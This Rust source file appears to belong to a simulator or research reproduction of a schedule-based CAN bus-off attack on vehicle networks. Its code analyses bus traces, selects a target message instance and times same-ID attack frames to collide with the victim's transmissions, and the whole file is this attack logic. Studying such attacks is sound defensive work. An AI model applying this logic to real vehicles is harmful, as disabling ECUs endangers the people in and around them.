//! The schedule-based bus-off attacker: reconnaissance over observed CAN
//! traffic, per-instance attack-window extraction, target selection, and
//! synchronized same-id frame injection.

use crate::asp::preceding_hp_run;
use crate::bus::{BusTrace, Frame, MessageId, Micros};
use crate::error::{Error, Result};

/// One observed victim transmission and the window in front of it.
#[derive(Debug, Clone, PartialEq)]
pub struct WindowObservation {
    /// 0-based hyper-period within the reconnaissance window.
    pub hyper_period: usize,
    /// 1-based instance ordinal within its hyper-period.
    pub ordinal: usize,
    /// Transmission start of the victim instance.
    pub tx_start: Micros,
    /// Consecutive higher-priority frames immediately preceding.
    pub window_len: u64,
    /// Start instant of the last (latest) frame of that window.
    pub last_window_start: Option<Micros>,
}

/// Reconnaissance summary for one victim id over `recon` hyper-periods.
#[derive(Debug, Clone, PartialEq)]
pub struct ReconReport {
    pub victim: MessageId,
    pub recon: usize,
    pub hyperperiod: Micros,
    /// Start of the analyzed window in trace time.
    pub base: Micros,
    pub observations: Vec<WindowObservation>,
    /// Ceiling-averaged window length per instance ordinal (1-based);
    /// ordinals missing from a hyper-period contribute zero.
    pub avg_windows: Vec<u64>,
}

impl ReconReport {
    pub fn observation(&self, hyper_period: usize, ordinal: usize) -> Option<&WindowObservation> {
        self.observations
            .iter()
            .find(|o| o.hyper_period == hyper_period && o.ordinal == ordinal)
    }
}

/// Classifies the message sequence in front of every victim instance over
/// the window `[base, base + recon * hyperperiod)` and ceiling-averages the
/// window lengths per instance ordinal.
pub fn recon_analyze_at(
    trace: &BusTrace,
    victim: MessageId,
    recon: usize,
    hyperperiod: Micros,
    base: Micros,
) -> Result<ReconReport> {
    assert!(recon >= 1, "reconnaissance needs at least one hyper-period");
    let txs: Vec<(Micros, &Frame)> = trace
        .transmissions()
        .map(|(_, e)| (e.time, e.frame.as_ref().unwrap()))
        .collect();
    let end = base + recon as Micros * hyperperiod;

    let mut observations = Vec::new();
    let mut ordinal = vec![0usize; recon];
    for (i, &(start, frame)) in txs.iter().enumerate() {
        if start < base || start >= end || frame.id != victim {
            continue;
        }
        let k = ((start - base) / hyperperiod) as usize;
        ordinal[k] += 1;
        let (window_len, run) = preceding_hp_run(&txs, i, victim, trace.bitrate);
        observations.push(WindowObservation {
            hyper_period: k,
            ordinal: ordinal[k],
            tx_start: start,
            window_len,
            last_window_start: run.last().map(|&p| txs[p].0),
        });
    }
    if observations.is_empty() {
        return Err(Error::NoVictim(victim.raw()));
    }

    let max_ordinal = ordinal.iter().copied().max().unwrap_or(0);
    let mut avg_windows = Vec::with_capacity(max_ordinal);
    for inst in 1..=max_ordinal {
        let sum: u64 = observations
            .iter()
            .filter(|o| o.ordinal == inst)
            .map(|o| o.window_len)
            .sum();
        avg_windows.push(sum.div_ceil(recon as u64));
    }

    Ok(ReconReport {
        victim,
        recon,
        hyperperiod,
        base,
        observations,
        avg_windows,
    })
}

/// Reconnaissance starting at the beginning of the trace.
pub fn recon_analyze(
    trace: &BusTrace,
    victim: MessageId,
    recon: usize,
    hyperperiod: Micros,
) -> Result<ReconReport> {
    recon_analyze_at(trace, victim, recon, hyperperiod, 0)
}

/// Picks the instance ordinal with the largest average window, breaking
/// ties toward the earliest instance. `None` when every window is empty:
/// idle-preceded targets are not worth attacking.
pub fn select_target(report: &ReconReport) -> Option<usize> {
    let best = report.avg_windows.iter().copied().max()?;
    if best == 0 {
        return None;
    }
    report
        .avg_windows
        .iter()
        .position(|&w| w == best)
        .map(|i| i + 1)
}

/// A fabricated attack campaign for the next reconnaissance period.
#[derive(Debug, Clone, PartialEq)]
pub struct AttackPlan {
    pub victim: MessageId,
    pub dlc: u8,
    /// Targeted instance ordinal (per hyper-period).
    pub target_ordinal: usize,
    /// Average window length that selected the target.
    pub target_window: u64,
    /// Release instants for the attack frames, in absolute trace time.
    pub injections: Vec<Micros>,
    /// The victim transmission instants the injections were predicted
    /// from, shifted forward by one reconnaissance period.
    pub predicted_victim_tx: Vec<Micros>,
}

/// Derives the attack plan: the attacker replays last period's timing one
/// reconnaissance period later, releasing its frame at the start of the
/// last higher-priority frame of the predicted window so both frames are
/// pending when the victim enters arbitration. Hyper-periods whose window
/// was empty are skipped (synchronizing against an idle-preceded instance
/// is considered hopeless).
pub fn build_attack_plan(report: &ReconReport, dlc: u8) -> Option<AttackPlan> {
    let target = select_target(report)?;
    let shift = report.recon as Micros * report.hyperperiod;
    let mut injections = Vec::new();
    let mut predicted = Vec::new();
    for k in 0..report.recon {
        let Some(obs) = report.observation(k, target) else {
            continue;
        };
        if obs.window_len == 0 {
            continue;
        }
        let release = obs
            .last_window_start
            .expect("non-zero window has a last frame")
            + shift;
        injections.push(release);
        predicted.push(obs.tx_start + shift);
    }
    if injections.is_empty() {
        return None;
    }
    Some(AttackPlan {
        victim: report.victim,
        dlc,
        target_ordinal: target,
        target_window: report.avg_windows[target - 1],
        injections,
        predicted_victim_tx: predicted,
    })
}

/// Materialises the attack frames: same id as the victim, dominant
/// (numerically smaller) payload, released inside the predicted windows.
pub fn inject_attack(plan: &AttackPlan, attacker_node: usize) -> Vec<Frame> {
    plan.injections
        .iter()
        .map(|&t| {
            Frame::new(plan.victim, vec![0x00; plan.dlc as usize], attacker_node, t)
                .expect("attack frames are valid by construction")
        })
        .collect()
}
